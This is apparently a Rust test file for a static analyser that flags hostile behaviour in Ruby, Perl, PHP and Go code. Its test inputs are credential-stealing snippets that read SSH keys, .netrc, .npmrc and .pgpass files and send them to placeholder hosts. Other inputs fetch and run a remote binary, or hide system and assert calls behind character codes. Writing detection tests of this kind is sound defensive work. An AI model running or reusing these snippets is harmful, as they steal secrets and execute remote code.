//! Blocks, closures and arguments that take something in.

use super::super::super::kit::words::{endures, hold};
use super::super::super::{go, perl, php, ruby};

#[test]
fn blocks_of_ruby_give_what_they_make() {
    hold(
        ruby::lower,
        &[
            (
                "l = ['~/.ssh/id_rsa', ENV['X']].compact.select { |f| File.file?(f) }.map { |f| File.binread(f) }.join\nNet::HTTP.post(URI('https://c.example.com'), Zlib.deflate(l)) rescue nil",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "h = %w[.netrc .npmrc].each_with_object({}) do |n, all|\n  all[n] = File.read(File.join(Dir.home, n))\nend\nRestClient.post('https://c.example.com', h.to_json)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "t = ['~/.netrc'].inject(+'') { |sum, f| sum << File.read(f) }\nHTTParty.post('https://c.example.com', body: t)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "b = +''\n['~/.netrc'].each { |f| b << File.read(f) if File.size(f) < 9 }\nHTTParty.post('https://c.example.com', body: b)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "def part(n) = URI.open(\"https://get.example.com/#{n}\").read\nIO.binwrite('/tmp/x', part('a'))\nsystem('/tmp/x &')",
                "eval net",
            ),
            ("eval([112, 117].map(&:chr).join)", "eval pu"),
            (
                "Kernel.send(%w[s y s].inject(:+) + 'tem', x)",
                "call system",
            ),
        ],
        &[("x = [1].select { |f| f > 0 }.map { |f| f + 1 }", "contact")],
    );
}

#[test]
fn blocks_of_perl_stand_in_front() {
    hold(
        perl::lower,
        &[
            (
                "my @w = grep { -r } map { \"$ENV{HOME}/$_\" } qw(.netrc .pgpass);\nmy $all = join \"\\n\", map { local $/; open my $f, '<', $_ or (); <$f> } @w;\nHTTP::Tiny->new->post('https://c.example.com', { content => $all });",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "my @r; open(my $h, '<', \"$ENV{HOME}/.pgpass\"); push @r, <$h>;\nLWP::UserAgent->new->post('https://c.example.com', Content => \"@r\");",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "my $n = join '', map { chr } (115, 121, 115, 116, 101, 109);\n&{\"CORE::$n\"}($x);",
                "call CORE::system",
            ),
        ],
        &[],
    );
}

#[test]
fn closures_and_arguments_of_php_take_in() {
    hold(
        php::lower,
        &[
            (
                "<?php foreach (glob(getenv('HOME') . '/.ssh/*') as $f) if (preg_match_all('/x/', file_get_contents($f), $m)) $got = array_merge($got, $m[0]);\nfile_get_contents('https://c.example.com', false, stream_context_create(['http' => ['content' => json_encode($got)]]));",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "<?php $out = [];\narray_walk($files = [getenv('HOME') . '/.npmrc', getenv('HOME') . '/.netrc'], function ($f) use (&$out) { $out[] = file_get_contents($f); });\n$c = curl_init('https://c.example.com');\ncurl_setopt($c, CURLOPT_POSTFIELDS, serialize($out));\ncurl_exec($c);",
                "contact sensitive file https://c.example.com <- sensitive",
            ),
            (
                "<?php $all = array_map(fn($p) => file_get_contents($p), [getenv('HOME') . '/.netrc']);\nmail('a@c.example.com', 'x', implode($all));",
                "contact a@c.example.com <- sensitive",
            ),
            ("<?php $f = 'ass' . 'ert'; $f($x);", "call assert"),
            (
                "<?php echo (implode('', array_map('chr', [105, 100])))($x);",
                "call id",
            ),
        ],
        &[("<?php usort($a, fn($x, $y) => $x <=> $y);", "contact")],
    );
}

#[test]
fn clipboards_and_packages_of_go() {
    hold(
        go::lower,
        &[
            (
                "package a\nimport \"github.com/atotto/clipboard\"\nfunc f() { clipboard.WriteAll(\"x\") }",
                "write clipboard: <- x",
            ),
            (
                "package a\nfunc load(p string) []byte {\n b, _ := os.ReadFile(p)\n return b\n}\nfunc main() {\n h, _ := os.UserHomeDir()\n load(h + \"/.netrc\")\n http.Post(\"https://c.example.com\", \"x\", load(h + \"/.pgpass\"))\n}",
                "contact https://c.example.com <- sensitive",
            ),
        ],
        &[],
    );
}

#[test]
fn hostile_blocks_end() {
    let texts: Vec<String> = [
        "a.each { |b| ",
        "map { ",
        "function ($a) {",
        "fn ($a) => ",
        "def a(b) = ",
        "preg_match(a, b, ",
        "a << b << ",
        "each_with_object({}) do |a, b|\n",
        "array_map(function ($a) { return ",
        "Dir[",
    ]
    .iter()
    .map(|piece| piece.repeat(150_000 / piece.len()))
    .collect();
    for lower in [ruby::lower, perl::lower, php::lower, go::lower] {
        endures(lower, &texts);
    }
}
